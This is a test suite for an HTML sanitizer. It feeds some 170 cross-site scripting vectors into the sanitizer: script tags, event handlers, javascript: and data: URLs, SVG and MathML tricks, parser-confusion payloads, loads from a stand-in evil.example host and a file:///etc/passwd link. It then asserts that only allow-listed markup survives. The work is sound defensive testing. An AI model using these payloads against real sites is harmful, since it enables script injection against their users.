import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { sanitizeHtml } from './sanitize-html'

const base = 'https://example.org/blog/post'

const kinds: Readonly<Record<string, readonly string[]>> = {
  'a script element': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script/src=data:,alert(1)>',
    '<script\n>alert(1)</script\n>',
    '<script\t\0>alert(1)</script>',
    '<scr\0ipt>alert(1)</scr\0ipt>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1);//<</script>',
    '<script>alert(1)',
    '<script><!--<script>alert(1)</script>--></script>',
    '</p><script>alert(1)</script><p>',
    '<script type="text/javascript" src=x></script foo>',
    '<ſcript>alert(1)</ſcript>',
    '<script/x>alert(1)</script/x>',
    '<script xlink:href="data:,alert(1)" />',
  ],
  'a handler': [
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror=alert`1`//',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x:x onerror\n=\nalert(1)>',
    '<img src="x"onerror="alert(1)">',
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    '<IMG SRC=x ONERROR=alert(1)>',
    '<img src=x \0onerror=alert(1)>',
    '<img src=x on\0error=alert(1)>',
    '<p onmouseover="alert(1)">x</p>',
    '<a href=x onclick=alert(1) autofocus onfocus=alert(1) tabindex=1>x</a>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<video src=x onerror=alert(1)></video>',
    '<video><source onerror=alert(1) src=x></video>',
    '<audio src=x oncanplay=alert(1) controls></audio>',
    '<body onload=alert(1)>x',
    '<marquee onstart=alert(1)>x</marquee>',
    '<div onpointerrawupdate=alert(1) onanimationend=alert(1) style="animation:a">x</div>',
    '<p title="x" onfocusin=alert(1) contenteditable>x</p>',
    '<table background=x onscrollend=alert(1)><td onbeforeinput=alert(1)>x',
    '<xss onpointerenter=alert(1) id=x tabindex=1>x</xss>',
  ],
  'an address that is code': [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="//javascript:alert(1)">x</a>',
    '<a href="javascript://example.org/%0aalert(1)">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    '<a href="filesystem:https://example.org/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="chrome://settings">x</a>',
    '<a href="courant-media://remote/?url=x">x</a>',
    '<a ping="javascript:alert(1)" href="x">x</a>',
    '<a href="jav\u00adascript:alert(1)" xlink:href="javascript:alert(1)">x</a>',
    '<q cite="javascript:alert(1)">x</q>',
    '<blockquote cite="data:text/html,x">x</blockquote>',
    '<img src="javascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" src="a.png">',
    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    '<img data-src="javascript:alert(1)" src="data:image/gif;base64,R0">',
    '<img src="data:image/png;base64,x&quot; onerror=&quot;alert(1)">',
    '<img src="data:image/png,&quot;><script>alert(1)</script>">',
    '<video poster="javascript:alert(1)" src="data:text/html,x"></video>',
    '<video poster="data:image/svg+xml,x"></video>',
    '<audio src="data:audio/mpeg;base64,x"></audio>',
    '<source srcset="javascript:alert(1)" src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit formaction="javascript:alert(1)"></form>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,x" title="a"></iframe>',
    '<iframe src=x title="<img src=x onerror=alert(1)>"></iframe>',
  ],
  'an element that loads, asks or takes over': [
    '<base href="javascript:alert(1)//">',
    '<base target="_top"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<link rel=import href=data:text/html,x>',
    '<object data="data:text/html,x"><param name=src value=x></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=x></applet>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<portal src=//evil.example></portal>',
    '<fencedframe src=x></fencedframe>',
    '<dialog open>x</dialog>',
    '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>',
    '<textarea autofocus onfocus=alert(1)></textarea>',
    '<keygen autofocus onfocus=alert(1)>',
    '<select onfocus=alert(1)><option>x</option></select>',
    '<img name=cookie id=body src=a.png><a id=x name=y>x</a>',
    '<p slot=x is=y nonce=z part=w>x</p>',
    '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap="#m" src=a.png>',
    '<template shadowrootmode=open><script>alert(1)</script></template>',
  ],
  'a style': [
    '<style>*{background:url(javascript:alert(1))}</style>',
    '<style>@import "//evil.example/x.css";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    '<style></style/><img src=x onerror=alert(1)>',
  ],
  'markup of another namespace': [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)><p>x',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
    '<svg><set attributeName=onload to=alert(1) /></svg>',
    '<svg><use href="data:image/svg+xml,x#x" /></svg>',
    '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>',
    '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
    '<svg></svg><![CDATA[<img src=x onerror=alert(1)>]]>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mtext></p><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  ],
  'a disagreement of parsers': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<plaintext></plaintext><img src=x onerror=alert(1)>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!---><img src=x onerror=alert(1)>-->',
    '<!--x--!><img src=x onerror=alert(1)>-->',
    '<!-- --\u0000> --><img src=x onerror=alert(1)>',
    '<!x><img src=x onerror=alert(1)>',
    '<?xml version="1.0"?><?x ><img src=x onerror=alert(1)>?>',
    '</ x><img src=x onerror=alert(1)>',
    '</p title="><img src=x onerror=alert(1)>">',
    '<p title=`<img src=x onerror=alert(1)>`>x</p>',
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
    '<p lang="&quot; onclick=&quot;alert(1)">x</p>',
    '<p/=/"><img src=x onerror=alert(1)>',
    '<p ="x" "onclick=alert(1) <b onclick=alert(1)>x</p>',
    '<a href="x" <img src=x onerror=alert(1)>',
    '<form><form><math></form><img src=x onerror=alert(1)>',
    '<table><form><tr><td></form><img src=x onerror=alert(1)>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<p><p><p></p>&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
    '&lt;img src=x onerror=alert(1)&gt;',
    '&amp;lt;script&amp;gt;alert(1)',
    '\u003cimg src=x onerror=alert(1)\u003e',
    '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u001b$B<script>alert(1)</script>\u001b(B',
    '<img src=x alt="`` onerror=alert(1)">',
    '<b><!--</b><script>alert(1)</script>',
    '<img sizes="&quot;><script>alert(1)</script>" src=a.png>',
    '<source media="&quot; onerror=&quot;alert(1)" src=a>',
    '<ol type="&quot;onclick=alert(1)//" start="1 onclick=alert(1)"><li value=javascript:1>x</ol>',
    '<time datetime="&quot;><script>alert(1)</script>">x</time>',
    '<img width="1 onerror=alert(1)" height=\'9" onerror="alert(1)\' src=a.png>',
    '<p __proto__="x" constructor=y tostring onclick>x</p>',
  ],
}

/** Written down a second time, so that an element allowed by mistake is seen here. */
const elements = new Set(
  (
    'a abbr address article aside audio b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em ' +
    'figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p picture pre q rp rt ruby s samp section small ' +
    'source span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var video wbr'
  ).split(' '),
)
const attributes = new Set(
  (
    'title lang dir href rel hreflang src srcset sizes alt width height loading controls preload loop poster cite datetime open span ' +
    'start reversed type value media colspan rowspan scope'
  ).split(' '),
)
const empty = new Set(['br', 'col', 'hr', 'img', 'source', 'wbr'])

const token =
  /(?<text>(?:[^<>&]|&(?:amp|lt|gt|quot);)+)|<\/(?<closed>[a-z][a-z0-9]*)>|<(?<opened>[a-z][a-z0-9]*)(?<rest>(?: [a-z]+(?:="(?:[^"<>&]|&(?:amp|lt|gt|quot);)*")?)*)(?<selfClosed> \/)?>/y

/**
 * Asserts that every parser must read the same from it, and nothing that runs: from its first to its last character it is text with its marks escaped, or tags
 * of the plainest form, properly nested, of known elements with known attributes.
 */
function expectHarmless(html: string): void {
  const open: string[] = []
  for (token.lastIndex = 0; token.lastIndex < html.length; ) {
    const rest = html.slice(token.lastIndex, token.lastIndex + 80)
    const { text, closed, opened, rest: written = '' } = token.exec(html)?.groups ?? {}
    expect(
      [text, closed, opened].some((part) => part !== undefined),
      `no token: ${rest}`,
    ).toBe(true)
    if (closed !== undefined) expect(open.pop(), html).toBe(closed)
    if (opened === undefined) continue
    expect(elements, html).toContain(opened)
    if (!empty.has(opened)) open.push(opened)
    for (const [, name = '', value = ''] of written.matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)) {
      expectHarmlessAttribute(opened, name, value)
    }
  }
  expect(open, html).toEqual([])
}

function expectHarmlessAttribute(element: string, name: string, value: string): void {
  expect(attributes, `<${element} ${name}>`).toContain(name)
  const image = /^(?:https?:\/\/|data:image\/(?:png|jpeg|gif|webp|avif)[;,][\w:/;,+=.%-]*$)/
  if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:)/)
  if (name === 'cite') expect(value).toMatch(/^https?:\/\//)
  if (name === 'src') expect(value).toMatch(element === 'img' ? image : /^https?:\/\//)
  if (name === 'poster') expect(value).toMatch(image)
  if (name === 'srcset') for (const candidate of value.split(', ')) expect(candidate).toMatch(/^https?:\/\//)
}

/** What a parser makes of it, as text and tags. */
function reread(html: string): string[] {
  const seen: string[] = []
  new Parser({
    onopentag: (name, written) => void seen.push(name, ...Object.keys(written)),
    oncomment: () => void seen.push('comment'),
    onprocessinginstruction: () => void seen.push('instruction'),
  }).end(html)
  return seen
}

describe.each(Object.entries(kinds))('%s', (_kind, vectors) => {
  test.each(vectors)('%j leaves nothing that runs', (vector) => {
    for (const around of [
      vector,
      `<p>a</p>${vector}<p>b</p>`,
      `<table><tr><td>${vector}</td></tr></table>`,
      `<a href="x">${vector}`,
    ]) {
      const out = sanitizeHtml(around, base)
      expectHarmless(out)
      expect(sanitizeHtml(out, base)).toBe(out)
      for (const name of reread(out)) expect(elements.has(name) || attributes.has(name), `${name} in ${out}`).toBe(true)
    }
  })
})

test('there are more than a hundred and fifty of them', () => {
  expect(new Set(Object.values(kinds).flat()).size).toBeGreaterThan(150)
})

test('nothing that runs comes of parts of them put together', () => {
  const parts = Object.values(kinds).flat()
  const cut = fc
    .tuple(fc.constantFrom(...parts), fc.nat(60), fc.nat(60))
    .map(([part, from, length]) => part.slice(from, from + length))
  const html = fc
    .array(fc.oneof(cut, fc.constantFrom(...parts)), { minLength: 1, maxLength: 8 })
    .map((all) => all.join(''))
  fc.assert(
    fc.property(html, (dirty) => expectHarmless(sanitizeHtml(dirty, base))),
    { numRuns: 3_000 },
  )
})

test.each([
  '<p>a<script>alert(1)</script></p>',
  '<p onclick="x">a</p>',
  '<a href="javascript:x">a</a>',
  '<p>a',
  '<p>a > b</p>',
])('the check itself refuses %s', (html) => {
  expect(() => expectHarmless(html)).toThrow()
})
